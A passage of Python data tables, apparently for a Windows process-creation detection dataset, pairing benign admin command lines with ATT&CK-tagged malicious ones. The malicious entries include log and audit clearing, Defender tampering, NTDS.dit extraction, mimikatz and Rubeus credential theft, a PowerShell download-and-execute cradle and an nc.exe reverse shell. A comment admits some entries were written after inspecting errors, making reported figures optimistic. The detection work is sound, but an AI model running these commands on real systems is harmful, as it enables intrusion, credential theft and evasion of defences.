    (None, S32 + "wscript.exe", f"{EXPLORER}|{S32}gpscript.exe|{SVCHOST}", ['wscript.exe "\\\\{host}\\netlogon\\map-drives.vbs"', "\"C:\\Windows\\System32\\WScript.exe\" \"{programs}start.vbs\"", "wscript.exe //B {programs}heartbeat.vbs"]),
    (None, S32 + "cscript.exe", f"{CMD}|{MANAGEMENT}|{SVCHOST}", ["cscript //nologo C:\\Windows\\System32\\slmgr.vbs /dli", "cscript.exe //nologo {programs}inventory.vbs", "cscript C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\prnmngr.vbs -l", "cscript /nologo \"C:\\Program Files\\Microsoft Office\\Office16\\OSPP.VBS\" /dstatus"]),
    (None, S32 + "curl.exe", TYPED, ["curl https://{domain}/api/v1/status", "curl -I https://{domain}/", "curl -fsSL https://{domain}/releases/latest.json", "curl.exe --version", "curl -O https://{domain}/tool-1.2.zip"]),
    (None, S32 + "OpenSSH\\ssh.exe", f"{TYPED}|{TERMINAL}|{EDITORS}", ["ssh {user}@{host}", "ssh -i {docs}id_ed25519 deploy@{domain}", "\"C:\\Windows\\System32\\OpenSSH\\ssh.exe\" -T git@{domain}"]),
    (None, "C:\\Program Files\\Windows Defender\\MpCmdRun.exe", f"{CMD}|{SVCHOST}", ["MpCmdRun.exe -SignatureUpdate", "MpCmdRun.exe -Scan -ScanType 1", "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -IdleTask -TaskName WdCacheMaintenance"]),
    (None, "C:\\Program Files\\7-Zip\\7z.exe", f"{CMD}|{EXPLORER}", ["7z.exe x {docs}archive.zip -o{docs}out", "7z a {docs}release.zip {docs}dist", "7z l {docs}archive.7z"]),
    (None, S32 + "expand.exe", CMD, ["expand -F:* {docs}drivers.cab {docs}drivers", "expand C:\\Windows\\WinSxS\\a.cab C:\\Temp\\out"]),
    (None, S32 + "forfiles.exe", f"{CMD}|{SVCHOST}", ["forfiles /p D:\\logs /s /m *.log /d -{number} /c \"cmd /c del @path\"", "forfiles /p {docs} /m *.tmp /c \"cmd /c echo @file\""]),
    (None, S32 + "mmc.exe", EXPLORER, ['"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\eventvwr.msc" /s', '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\services.msc"', '"C:\\Windows\\system32\\mmc.exe" C:\\Windows\\system32\\dsa.msc']),
    (None, S32 + "svchost.exe", SERVICES, ["C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "C:\\Windows\\System32\\svchost.exe -k LocalSystemNetworkRestricted -p", "svchost.exe -k wsappx -p -s ClipSVC"]),
    (None, S32 + "taskhostw.exe|" + S32 + "dllhost.exe|" + S32 + "RuntimeBroker.exe|" + S32 + "backgroundTaskHost.exe", SVCHOST, ["taskhostw.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{guid}", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", "taskhostw.exe SYSTEM"]),
    (None, S32 + "splwow64.exe", OFFICE, ["C:\\Windows\\splwow64.exe 12288", "splwow64.exe 8192"]),
    (None, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", f"{EXPLORER}|{OFFICE}", ['"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --single-argument https://{domain}/', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US']),
    (None, S32 + "conhost.exe", f"{CMD}|{POWERSHELL}", ["\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "C:\\Windows\\system32\\conhost.exe 0x4"]),
    (None, S32 + "fodhelper.exe|" + S32 + "eventvwr.exe", EXPLORER, ['"C:\\Windows\\System32\\fodhelper.exe" ', "C:\\Windows\\System32\\eventvwr.exe"]),
    (None, CMD, "C:\\Windows\\System32\\gpscript.exe|C:\\Windows\\System32\\userinit.exe", ["cmd.exe /c \\\\{host}\\SYSVOL\\corp\\scripts\\logon.cmd", "C:\\Windows\\system32\\cmd.exe /c {programs}logon.bat"]),
    (None, S32 + "robocopy.exe", f"{CMD}|{SVCHOST}", ["robocopy {docs} \\\\{host}\\backup /mir /r:2 /w:5", "robocopy D:\\data E:\\data /e /copyall"]),
    (None, S32 + "gpupdate.exe|" + S32 + "ipconfig.exe|" + S32 + "PING.EXE", TYPED, ["gpupdate /force", "ipconfig /flushdns", "ping -n 4 {ip}", "ipconfig /all"]),
]

# Written after the errors on left-out groups had been looked at: figures with these are somewhat hopeful.
MALICIOUS_LATER = [
    ("T1218.005", S32 + "mshta.exe", HANDS, ["mshta {url}", "mshta.exe https://{domain}/{name}", "mshta http://{domain}/{name}.hta"]),
    ("T1562.002", S32 + "auditpol.exe", TYPED, ["auditpol /clear /y", "auditpol /set /category:* /success:disable /failure:disable", "auditpol /set /subcategory:\"Process Creation\" /success:disable", "auditpol /remove /allusers"]),
    ("T1070.001", S32 + "wevtutil.exe", f"{TYPED}|{SERVICES}", ["wevtutil clear-log {channel}", 'wevtutil.exe cl "{channel}"', "wevtutil set-log {channel} /enabled:false"]),
    ("T1548.002", CMD, S32 + "sdclt.exe|" + S32 + "wsreset.exe|" + S32 + "slui.exe|" + S32 + "mmc.exe|" + S32 + "changepk.exe", ["cmd.exe", "cmd /c {drop}{name}.bat", "C:\\Windows\\System32\\cmd.exe /k"]),
    ("T1548.002", S32 + "wusa.exe", TYPED, ["wusa {drop}{name}.cab /extract:C:\\Windows\\System32\\sysprep /quiet", "wusa.exe {drop}{name}.msu /extract:C:\\Windows"]),
    ("T1546.008", CMD, S32 + "winlogon.exe|" + S32 + "utilman.exe|" + S32 + "sethc.exe", ["cmd.exe", "C:\\Windows\\System32\\cmd.exe sethc.exe 211"]),
    ("T1059.003", CMD, f"{S32}spoolsv.exe|{S32}lsass.exe|{S32}notepad.exe|{S32}dllhost.exe|{S32}rundll32.exe|{S32}regsvr32.exe|C:\\Windows\\PSEXESVC.exe|{SERVICES}", ["cmd.exe", "cmd.exe /c whoami", "C:\\Windows\\System32\\cmd.exe /c net localgroup administrators {name} /add", "cmd /c {drop}{name}.exe"]),
    ("T1059.001", POWERSHELL, f"{S32}spoolsv.exe|{S32}dllhost.exe|{S32}rundll32.exe|{S32}regsvr32.exe|C:\\Windows\\PSEXESVC.exe|{SERVICES}|{WEB}", ["powershell", "powershell.exe -c whoami", "powershell -nop -c iex((New-Object Net.WebClient).DownloadString('{scripturl}'))"]),
    ("T1563.002", S32 + "tscon.exe", f"{TYPED}|{SERVICES}", ["tscon 2 /dest:rdp-tcp#{number}", "tscon.exe {number} /dest:console"]),
    ("T1552.001", S32 + "inetsrv\\appcmd.exe", TYPED, ["appcmd list apppool /text:processmodel.password", "appcmd.exe list vdir /text:vdirpassword", "appcmd.exe install module /name:{name} /image:{drop}{name}.dll"]),
    ("T1558.003", S32 + "setspn.exe", TYPED, ["setspn -T corp -Q */*", "setspn.exe -q */*"]),
    ("T1003.003", S32 + "esentutl.exe", TYPED, ["esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d {drop}{name}.dit", "esentutl /y \\\\{ip}\\{name}\\{name}.exe /d {drop}{name}.exe /o"]),
    ("T1003.003", CMD, TYPED, ["cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\NTDS.dit {drop}", "cmd.exe /c vssadmin create shadow /for=C: > {drop}{name}.txt"]),
    ("T1003.003", S32 + "diskshadow.exe", TYPED, ["diskshadow /s {drop}{name}.txt", "diskshadow.exe -s {drop}{name}.dsh"]),
    ("T1055.001", S32 + "mavinject.exe", HANDS, ["mavinject.exe {pid} /INJECTRUNNING {drop}{name}.dll"]),
    ("T1203", S32 + "msdt.exe", f"{OFFICE}|{EXPLORER}", ['msdt.exe ms-msdt:/id PCWDiagnostic /skip force /param "IT_RebrowseForFile=? IT_BrowseForFile=$(Invoke-Expression {name})"', "msdt.exe /cab {drop}{name}.diagcab"]),
    ("T1218.002", S32 + "control.exe", f"{HANDS}|{OFFICE}", ["control.exe {drop}{name}.cpl", "control {drop}{name}.dll"]),
    ("T1546.011", S32 + "sdbinst.exe", HANDS, ["sdbinst.exe -q {drop}{name}.sdb", "sdbinst {drop}{name}.sdb"]),
    ("T1112", "C:\\Windows\\regedit.exe", TYPED, ["regedit /s {drop}{name}.reg", "regedit.exe {drop}{name}:{name}.reg"]),
    ("T1562.001", S32 + "Dism.exe", TYPED, ["dism /online /Disable-Feature /FeatureName:Windows-Defender /Remove /NoRestart /quiet"]),
    ("T1562.001", S32 + "reg.exe", TYPED, ["reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\" /v {drop} /t REG_DWORD /d 0 /f", "reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend /f", "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal\" \"Server /v fDenyTSConnections /t REG_DWORD /d 0 /f"]),
    ("T1562.001", S32 + "taskkill.exe", TYPED, ["taskkill /f /im MsMpEng.exe", "taskkill /IM sqlservr.exe /F", "taskkill.exe /f /im Sysmon64.exe"]),
    ("T1555", S32 + "cmdkey.exe", TYPED, ["cmdkey /list", "cmdkey /add:{host} /user:{user} /pass:Summer2024!"]),
    ("T1555.003", "{drop}lazagne.exe|{drop}mimikatz.exe|{drop}Rubeus.exe|{drop}SharpHound.exe|{drop}{name}.exe", TYPED, ["lazagne.exe all", 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', "Rubeus.exe kerberoast /outfile:{drop}{name}.txt", "SharpHound.exe -c All --zipfilename {name}", "{name}.exe privilege::debug token::elevate lsadump::sam exit"]),
    ("T1572", "{drop}plink.exe|{drop}chisel.exe|{drop}ngrok.exe|{drop}nc.exe|{drop}{name}.exe", TYPED, ["plink.exe -ssh -R {number}:127.0.0.1:3389 {user}@{ip} -pw {name}", "chisel.exe client {ip}:{number} R:socks", "ngrok.exe tcp 3389", "nc.exe -nv {ip} {number} -e cmd.exe", "{name}.exe -connect {ip}:443 -pass {name}"]),
    ("T1127.001", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe", f"{SCRIPTS}|{OFFICE}|C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe", ['csc.exe /noconfig /fullpaths @"C:\\Users\\{user}\\AppData\\Local\\Temp\\{name}3kz.cmdline"']),
    ("T1204.002", "{drop}{name}.exe|C:\\Users\\{user}\\Downloads\\invoice.pdf.exe|C:\\Users\\{user}\\AppData\\Local\\Temp\\{name}.scr", f"{EXPLORER}|{READERS}|{OFFICE}", ["{drop}{name}.exe", '"C:\\Users\\{user}\\Downloads\\invoice.pdf.exe"', "{drop}{name}.exe -s {ip}"]),
]

BENIGN_LATER = [
    (None, CMD, f"{S32}RuntimeBroker.exe|{S32}sihost.exe|C:\\Windows\\explorer.exe", ["cmd.exe", '"C:\\Windows\\system32\\cmd.exe" ']),
    (None, "C:\\Windows\\regedit.exe|" + S32 + "eventvwr.exe|" + S32 + "taskmgr.exe|" + S32 + "msconfig.exe|" + S32 + "notepad.exe", EXPLORER, ['"C:\\Windows\\regedit.exe" ', '"C:\\Windows\\system32\\eventvwr.exe" ', '"C:\\Windows\\system32\\taskmgr.exe" /4', '"C:\\Windows\\system32\\notepad.exe" {docs}notes.txt']),
    (None, S32 + "mmc.exe", f"{S32}eventvwr.exe|{EXPLORER}", ['"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\eventvwr.msc" /l:"C:\\Windows\\System32\\winevt\\Logs\\{channel}.evtx"', '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\compmgmt.msc" /s']),
    (None, S32 + "netsh.exe", f"{CMD}|{MANAGEMENT}", ["netsh wlan show all", "netsh lan show interfaces", "netsh mbn show interfaces", "netsh advfirewall monitor show currentprofile", "netsh winhttp show proxy", "netsh dnsclient show state"]),
    (None, S32 + "reg.exe", f"{CMD}|{MANAGEMENT}", ['reg export "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\NetworkList" {docs}networks.reg /y', "reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip {docs}tcpip.reg /y", "reg import {programs}defaults.reg"]),
    (None, S32 + "net.exe|" + S32 + "net1.exe", f"{CMD}|{S32}net.exe", ["net config rdr", "net config srv", "net accounts", "net file", "net start"]),
    (None, S32 + "findstr.exe|" + S32 + "find.exe", CMD, ["findstr /i error {docs}build.log", "find \"TCP\"", "findstr /r /c:version {docs}package.json"]),
    (None, S32 + "MpSigStub.exe", "C:\\Windows\\SoftwareDistribution\\Download\\Install\\AM_Delta_Patch_1.395.1.0.exe|C:\\Windows\\ServiceProfiles\\NetworkService\\AppData\\Local\\Temp\\mpam-3f2a.exe", ["C:\\Windows\\system32\\MpSigStub.exe /stub 1.1.18500.10 /payload 1.395.1.0 /program {programs}AM_Delta.exe"]),
    (None, POWERSHELL, "C:\\Program Files\\Windows Defender Advanced Threat Protection\\SenseIR.exe|C:\\Program Files\\Windows Defender Advanced Threat Protection\\SenseCncProxy.exe", ["powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command \"& {$OutputEncoding = [Console]::OutputEncoding =[System.Text.Encoding]::UTF8;$scriptFileStream = [System.IO.File]::Open('C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\DataCollection\\8099.ps1')}\""]),
    (None, "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe|C:\\Users\\{user}\\AppData\\Local\\slack\\app-4.35.126\\slack.exe|C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "C:\\Users\\anna\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe|C:\\Users\\anna\\AppData\\Local\\slack\\slack.exe|C:\\Windows\\explorer.exe", ['Teams.exe --type=renderer --no-sandbox --autoplay-policy=no-user-gesture-required --lang=en-US', "slack.exe --type=gpu-process --field-trial-handle=1712", "Update.exe --processStart Teams.exe --process-start-args \"--system-initiated\""]),
    (None, S32 + "auditpol.exe", f"{CMD}|{MANAGEMENT}", ["auditpol /get /category:*", "auditpol /set /subcategory:\"Process Creation\" /success:enable", "auditpol /backup /file:{docs}audit.csv"]),
    (None, S32 + "wusa.exe", f"{CMD}|{EXPLORER}|{MANAGEMENT}", ["wusa {docs}windows10.0-kb5034441-x64.msu /quiet /norestart", "wusa.exe /uninstall /kb:5034441"]),
    (None, S32 + "Dism.exe", f"{TYPED}|{MANAGEMENT}", ["dism /online /cleanup-image /restorehealth", "dism /online /get-features /format:table", "Dism.exe /Online /Enable-Feature /FeatureName:NetFx3 /All"]),
    (None, S32 + "taskkill.exe", f"{CMD}|{MANAGEMENT}", ["taskkill /im notepad.exe", "taskkill /f /im node.exe", "taskkill /pid {pid}"]),
    (None, S32 + "esentutl.exe", f"{CMD}|{SVCHOST}", ["esentutl /g C:\\Windows\\SoftwareDistribution\\DataStore\\DataStore.edb", "esentutl /d {docs}mail.edb"]),
    (None, S32 + "control.exe", EXPLORER, ['"C:\\Windows\\System32\\control.exe" ncpa.cpl', "control.exe /name Microsoft.Printers", '"C:\\Windows\\system32\\control.exe" SYSTEM']),
    (None, S32 + "nslookup.exe", TYPED, ["nslookup {domain}", "nslookup {host} 10.1.1.1", "nslookup -type=mx {domain}"]),
    (None, "C:\\Users\\{user}\\Downloads\\Git-2.43.0-64-bit.exe|C:\\Users\\{user}\\Downloads\\VSCodeUserSetup-x64-1.85.1.exe", EXPLORER, ['"C:\\Users\\{user}\\Downloads\\Git-2.43.0-64-bit.exe" ', '"C:\\Users\\{user}\\Downloads\\VSCodeUserSetup-x64-1.85.1.exe" ']),
    (None, "C:\\Users\\{user}\\AppData\\Local\\Temp\\is-3QJ1K.tmp\\VSCodeUserSetup-x64-1.85.1.tmp", "C:\\Users\\anna\\Downloads\\VSCodeUserSetup-x64-1.85.1.exe", ['"C:\\Users\\{user}\\AppData\\Local\\Temp\\is-3QJ1K.tmp\\VSCodeUserSetup-x64-1.85.1.tmp" /SL5="$40A2C,94000000,828416" /VERYSILENT']),
    (None, CMD, "C:\\Program Files\\nodejs\\node.exe|C:\\Program Files\\Git\\bin\\bash.exe|C:\\Program Files\\Python311\\python.exe|C:\\Program Files\\Java\\jdk-17\\bin\\java.exe", ["cmd.exe /d /s /c \"npm install\"", "cmd.exe /c mvn.cmd -q package", "C:\\Windows\\system32\\cmd.exe /c \"git rev-parse HEAD\"", "cmd /c ver"]),
    (None, POWERSHELL, "C:\\Program Files\\nodejs\\node.exe|C:\\Program Files\\Docker\\Docker\\Docker Desktop.exe|C:\\ProgramData\\chocolatey\\choco.exe", ["powershell.exe -NoProfile -NoLogo -ExecutionPolicy Bypass -File {programs}tools\\chocolateyInstall.ps1", "powershell -NoProfile Get-CimInstance -ClassName Win32_Processor", "powershell.exe -NoProfile -NonInteractive -Command (Get-NetAdapter).Name"]),
    (None, S32 + "mshta.exe", f"{EXPLORER}|{CMD}", ["mshta.exe C:\\Apps\\forms\\request.hta", 'mshta.exe "{docs}viewer.hta"']),
    (None, S32 + "wlrmdr.exe", S32 + "winlogon.exe", ["-c -s 0 -f 0 -t Empty -m Empty -a 0 -u Empty", "wlrmdr.exe -s 60000 -f 2 -t Password -m Expires -a 10"]),
    (None, CMD, S32 + "cscript.exe|" + S32 + "wscript.exe", ["cmd /c netsh interface ip show config >> {programs}report.txt", "cmd.exe /c gpresult /scope:computer /v > {programs}policy.txt 2>&1", "cmd /c tasklist /svc > {programs}services.txt"]),
    (None, S32 + "nbtstat.exe|" + S32 + "tasklist.exe", TYPED, ["nbtstat -n", "nbtstat -c", "tasklist /svc", "tasklist /m ntdll.dll"]),
]
